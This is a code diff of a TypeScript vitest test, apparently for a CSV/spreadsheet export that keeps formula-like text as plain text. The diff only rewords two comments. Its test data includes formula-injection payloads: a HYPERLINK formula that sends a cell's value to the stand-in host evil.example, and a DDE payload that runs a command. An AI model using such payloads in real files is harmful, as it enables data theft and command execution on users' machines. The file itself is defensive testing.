@@ -6,7 +6,7 @@ import { parse } from 'csv-parse/sync'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { consolidate } from './consolidated.ts'
 
-/** Texts that begin like formulas leave as text, however they came in and wherever they go (docs/design/promises.md: Promise 7). */
+/** Texts that begin like formulas; every export keeps them as text (docs/design/promises.md: Promise 7). */
 const texts = [
   '=HYPERLINK("http://evil.example/?"&A1,"点我")',
   "=cmd|' /C calc'!A0",
@@ -66,7 +66,7 @@ function cellsOf(bytes: Uint8Array): { formulas: string[]; strings: string[] } {
   }
 }
 
-/** Programs write a carriage return in a cell as they please. */
+/** A text with line feeds in place of carriage returns, because programs write carriage returns in different ways. */
 function oneLineEnd(text: string): string {
   return text.replace(/\r/g, '\n')
 }
